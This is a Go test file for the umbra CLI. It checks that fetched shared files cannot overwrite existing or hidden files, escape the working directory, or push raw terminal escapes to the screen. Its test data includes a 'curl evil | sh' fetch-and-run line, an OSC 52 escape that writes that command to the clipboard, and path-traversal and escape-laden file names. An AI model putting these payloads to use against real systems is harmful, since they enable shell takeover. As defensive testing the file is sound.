package main

import (
	"bytes"
	"context"
	"log/slog"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/umbra-store/umbra/internal/engine"
	"github.com/umbra-store/umbra/internal/node"
)

// runIn runs umbra --offline in the working directory wd.
func runIn(t *testing.T, wd, nodeDir string, args ...string) result {
	t.Helper()
	return runDir(t, wd, nodeDir, nil, append([]string{"--offline"}, args...)...)
}

// putNamed stores data under a name of the test's choosing, as a hostile
// capability creator can (the CLI records only base names).
func putNamed(t *testing.T, nodeDir, name string, data []byte) string {
	t.Helper()
	n, err := node.Open(nodeDir, slog.New(slog.DiscardHandler))
	if err != nil {
		t.Fatal(err)
	}
	defer n.Close()
	e := engine.New(n.Store, n.Keys.Secrets)
	res, err := e.Put(context.Background(), bytes.NewReader(data), engine.PutOptions{Name: name})
	if err != nil {
		t.Fatal(err)
	}
	return res.Cap.Encode()
}

// TestSharedFileCannotOverwrite is finding 5 of the hardening review: `umbra
// get CAP` without -o wrote to the name the capability's creator chose, and
// a file named .bashrc silently replaced the user's. An existing file is
// never replaced unless -o names it or --force is given; names that are not
// one plain path element are refused, and the refusal shows the name
// harmlessly.
func TestSharedFileCannotOverwrite(t *testing.T) {
	nodeDir := newNode(t)
	capText := putNamed(t, nodeDir, "notes.txt", []byte("curl evil | sh\n"))
	wd := t.TempDir()
	mine := filepath.Join(wd, "notes.txt")
	os.WriteFile(mine, []byte("my notes\n"), 0o644)

	r := runIn(t, wd, nodeDir, "get", capText)
	if r.code != 2 || !strings.Contains(r.stderr, "notes.txt exists: not replaced") {
		t.Fatalf("get over an existing file: exit %d %q", r.code, r.stderr)
	}
	if got, _ := os.ReadFile(mine); string(got) != "my notes\n" {
		t.Fatal("the user's file was replaced")
	}
	left, _ := filepath.Glob(filepath.Join(wd, ".*umbra*"))
	if len(left) != 0 {
		t.Fatalf("temp files left: %v", left)
	}
	// Saying so replaces it: --force, or -o naming it.
	if r := runIn(t, wd, nodeDir, "get", "--force", capText); r.code != 0 {
		t.Fatalf("get --force: %d %q", r.code, r.stderr)
	}
	if got, _ := os.ReadFile(mine); string(got) != "curl evil | sh\n" {
		t.Fatal("--force did not write the file")
	}
	os.WriteFile(mine, []byte("mine again\n"), 0o644)
	if r := runIn(t, wd, nodeDir, "get", capText, "-o", "notes.txt"); r.code != 0 {
		t.Fatalf("get -o notes.txt: %d %q", r.code, r.stderr)
	}
	// A file that does not exist is written under the stored name.
	os.Remove(mine)
	if r := runIn(t, wd, nodeDir, "get", capText); r.code != 0 {
		t.Fatalf("get to a new name: %d %q", r.code, r.stderr)
	}

	// A hidden name (a new .bash_profile takes over a login shell) is not
	// taken unasked, even where no such file exists.
	hidden := putNamed(t, nodeDir, ".bash_profile", []byte("curl evil | sh\n"))
	if r := runIn(t, wd, nodeDir, "get", hidden); r.code != 2 || !strings.Contains(r.stderr, "hidden file") {
		t.Fatalf("hidden name: exit %d %q", r.code, r.stderr)
	}
	if _, err := os.Stat(filepath.Join(wd, ".bash_profile")); err == nil {
		t.Fatal("a hidden file was created")
	}
	if r := runIn(t, wd, nodeDir, "get", "--force", hidden); r.code != 0 {
		t.Fatalf("hidden name with --force: %d %q", r.code, r.stderr)
	}

	// "-" would be standard output: the creator's bytes, escapes and all,
	// on the terminal of a user who meant to save a file.
	escapes := "\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07\x1b[2Jhello\n"
	for _, name := range []string{"-", "../escape", "/etc/passwd", "..", "a/b", "evil\x1b]0;pwned\x07\x1b[2J", "nul\x00byte"} {
		c := putNamed(t, nodeDir, name, []byte(escapes))
		r := runIn(t, wd, nodeDir, "get", c)
		if r.code != 2 || !strings.Contains(r.stderr, "refused the stored name") || r.stdout != "" {
			t.Fatalf("name %q: exit %d %q %q", name, r.code, r.stderr, r.stdout)
		}
		if strings.ContainsAny(r.stderr, "\x1b\x07\x00") {
			t.Fatalf("name %q reached the terminal raw: %q", name, r.stderr)
		}
	}
	ents, _ := os.ReadDir(wd)
	if len(ents) != 2 {
		t.Fatalf("working directory holds %d entries, want notes.txt and .bash_profile", len(ents))
	}
}
